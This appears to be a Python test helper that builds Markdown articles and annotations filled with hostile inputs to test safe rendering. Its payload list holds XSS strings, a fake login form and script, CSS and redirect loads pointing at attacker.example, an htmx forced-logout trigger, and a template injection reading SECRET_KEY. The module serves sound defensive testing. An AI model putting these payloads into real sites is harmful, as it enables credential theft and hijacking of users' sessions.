"""Hostile words, and articles full of them: in every place of Markdown and in every field."""

import os
import re
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from itertools import cycle, islice

from reader.annotations.models import (
    GIST_LENGTH,
    NOTE_LENGTH,
    Annotation,
    Passage,
    Relation,
)
from reader.argument.roles import RelationKind, Role
from reader.articles.models import Article
from reader.text.rendering import RenderRefused, blocks_of
from tests.factories import make_article, owner_of
from tests.text.documents import attacks

OWN = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
    "javascript:alert(1)",
    "JaVaScRiPt&colon;alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//attacker.example/pixel.png",
    "\\\\attacker.example\\pixel.png",
    "https://attacker.example/pixel.png",
    "/accounts/logout/",
    "{: #notices .card onclick=alert(1) hx-get=/accounts/logout/ data-hx-trigger=load }",
    '<p id="notices" data-hx-post="/accounts/logout/" data-hx-trigger="load">x</p>',
    '<a class="code" id="r-C1" data-a="C1" href="#p-C1" hx-boost="true">C1</a>',
    '<mark class="on first" id="p-C1" data-a="C1" data-role="claim" style="color:red">x</mark>',
    '</article-text></main><dialog open class="sheet" id="keys">Sign in again</dialog>',
    "<form action=//attacker.example><input name=password type=password><button>Go</form>",
    "<style>@import '//attacker.example/a.css';body{display:none}</style>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=//attacker.example>',
    '<meta http-equiv=refresh content="0;url=//attacker.example"><base href=//attacker.example>',
    '</textarea></title></select><script src="//attacker.example/a.js"></script>',
    "--><!--><img src onerror=alert(1)>]]><![CDATA[<script>alert(1)</script>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=alert(1)&gt;">',
    '{{ settings.SECRET_KEY }}{% include "base.html" %}{#',
    "\u202eright to left\u2066 <b onclick=alert(1)>b</b>",
    "\x02klzzwxh:0001\x03 klzzwxh:0000 wzxhzdk:0",
    "&#60;script&#62;alert(1)&#60;/script&#62; &lt;img src=x onerror=alert(1)&gt;",
]
CORPORA = ["xss_html", "xss_markdown", "naughty_strings", "commonmark_spec", "unicode"]
# Of each collection; all of them take minutes: EVERY_ATTACK=1 tries them.
SAMPLE = 25
EVERY_ATTACK = os.environ.get("EVERY_ATTACK") == "1"

# `line` is a payload on one line, `block` as it is, `n` a number of its own, `fence` one that no
# other one closes: where the words behind it make it no fence, its end would swallow what follows.
ALWAYS = ["{block}", "Words *{line}* and **{line}** and ~~{line}~~ here."]
PLACES = [
    "- {line}\n- b\n\n    - {line}",
    "> {line}\n>\n> > {line}",
    "## {line}",
    "{line}\n---",
    "| {line} | b |\n|:--|--:|\n| {line} | `{line}` |",
    "[{line}](https://example.org/)",
    "[a]({line}) [b](<{line}>) <{line}>",
    "[a](/x \"{line}\") [b](/x '{line}')",
    '![{line}]({line} "{line}") ![a](/media/{line})',
    "a[^{n}]\n\n[^{n}]: {line}",
    "a[^{line}]\n\n[^{line}]: b",
    "ABBR{n}\n\n*[ABBR{n}]: {line}",
    "{line}\n: {line}",
    '[ref{n}] [{line}]\n\n[ref{n}]: {line} "{line}"\n[{line}]: /x',
    "{fence}{line}\n{line}\n{fence}",
    "```\n{line}\n```\n\n`{line}` ``{line}``\n\n    {line}",
    "## T{n} {{: {line} }}\n\nwords{{: {line} }}\n{{: {line} }}",
    "[[{line}]] {line}@example.org &{line}; \\{line}",
]
USED = 4  # of these places for each payload of a large collection
FENCE = re.compile(r"^.{0,6}(```|~~~)", re.MULTILINE)
BATCH = 250


@dataclass(frozen=True)
class Hostile:
    """An article that holds payloads: in its text, and one in each field of its annotations."""

    article: Article
    payloads: tuple[str, ...]


def collection(name: str) -> list[str]:
    """Our own payloads, or those of a collection beside the repository; none where it is not."""
    if name == "own":
        return OWN
    found = attacks(name)
    share = 2 if name.startswith("xss") else 1  # what is about markup counts for more
    return found if EVERY_ATTACK else found[:: max(1, len(found) // (SAMPLE * share))]


def markdown_of(payloads: Sequence[str], used: int = USED) -> str:
    """Each payload in several places, then a paragraph that stays one unless something swallows it."""
    return "\n\n".join(
        block
        for number, payload in enumerate(payloads)
        for block in (*_placed(payload, number, used), f"end {number}")
    )


def hostile_articles(payloads: Sequence[str], used: int = USED) -> Iterator[Hostile]:
    """Articles with all of these payloads; a text that is refused is tried in halves."""
    batches = [payloads[at : at + BATCH] for at in range(0, len(payloads), BATCH)]
    while batches:
        batch = batches.pop()
        try:
            yield _hostile(batch, used)
        except RenderRefused:
            assert len(batch) > 1, f"refused by itself: {batch[0]!r}"
            middle = len(batch) // 2
            batches += [batch[:middle], batch[middle:]]


def lines_of(payloads: Sequence[str], length: int = 200) -> list[str]:
    """Payloads as they can stand in a field of one line: joined up to its length, nothing empty."""
    lines = [""]
    for payload in map(_one_line, payloads):
        if len(lines[-1]) + len(payload) + 1 > length:
            lines.append("")
        lines[-1] = f"{lines[-1]} {payload}".strip()[:length].strip()
    return [line for line in lines if line]


def annotate_with(article: Article, words: Sequence[str]) -> None:
    """Mark one passage for each of these words, which stand in gist, note and device."""
    roles = cycle(Role)
    rows = Annotation.objects.bulk_create(
        Annotation(
            article=article,
            number=number,
            role=(role := next(roles)),
            gist=_one_line(payload)[:GIST_LENGTH] or "empty",
            note=_stored(payload)[:NOTE_LENGTH],
            device=_one_line(payload)[:60] if role is Role.RHETORIC else "",
            author=owner_of(article),
        )
        for number, payload in enumerate(words, 1)
    )
    _mark(article, rows)
    _relate(article, [row for row in rows if row.role != Role.RHETORIC])


def _hostile(payloads: Sequence[str], used: int) -> Hostile:
    lines = lines_of(payloads)
    article = make_article(
        markdown_of(payloads, used),
        public=True,
        title=lines[0],
        byline=lines[-1],
        source_url=f"https://example.org/{_one_line(payloads[0])[:400]}",
    )
    annotate_with(article, payloads)
    return Hostile(article, tuple(payloads))


def _placed(payload: str, number: int, used: int) -> Iterator[str]:
    begin = number * used
    places = [*ALWAYS, *islice(cycle(PLACES), begin, begin + min(used, len(PLACES)))]
    # A fence that is not closed would swallow the payloads that come after it.
    block = _one_line(payload) if FENCE.search(payload) else _stored(payload)
    for place in places:
        fence = "~" * (4 + number)
        yield place.format(line=_one_line(payload), block=block, n=number, fence=fence)


def _stored(payload: str) -> str:
    return re.sub(r"[\x00\ud800-\udfff]", "", payload)


def _one_line(payload: str) -> str:
    return " ".join(_stored(payload).split())


def _mark(article: Article, rows: Sequence[Annotation]) -> None:
    """Passages all over the text; some cross into the next block, some overlap."""
    assert article.head is not None
    blocks = [block for block in blocks_of(article.head.html) if block.end - block.start > 1]
    step = max(1, len(blocks) // len(rows))
    spans = ((blocks[at], blocks[min(at + at % 3, len(blocks) - 1)]) for at in range(len(blocks)))
    chosen = islice(cycle(list(spans)[::step]), len(rows))
    passages = []
    for row, (first, last) in zip(rows, chosen, strict=True):
        start, end = first.start, min(max(first.end, last.end), first.start + 300)
        quote = article.head.text[start:end]
        passages.append(
            Passage(annotation=row, revision=article.head, start=start, end=end, quote=quote)
        )
    Passage.objects.bulk_create(passages)


def _relate(article: Article, rows: Sequence[Annotation]) -> None:
    """Every second one bears on the one before it."""
    pairs = list(zip(rows[::2], rows[1::2], strict=False))
    relations = Relation.objects.bulk_create(
        Relation(
            article=article,
            number=number,
            kind=RelationKind.ATTACK if number % 3 == 0 else RelationKind.SUPPORT,
            target_annotation=target,
            author=target.author,
        )
        for number, (target, _) in enumerate(pairs, 1)
    )
    premises = Relation.premises.through
    premises.objects.bulk_create(
        premises(relation=relation, annotation=premise)
        for relation, (_, premise) in zip(relations, pairs, strict=True)
    )
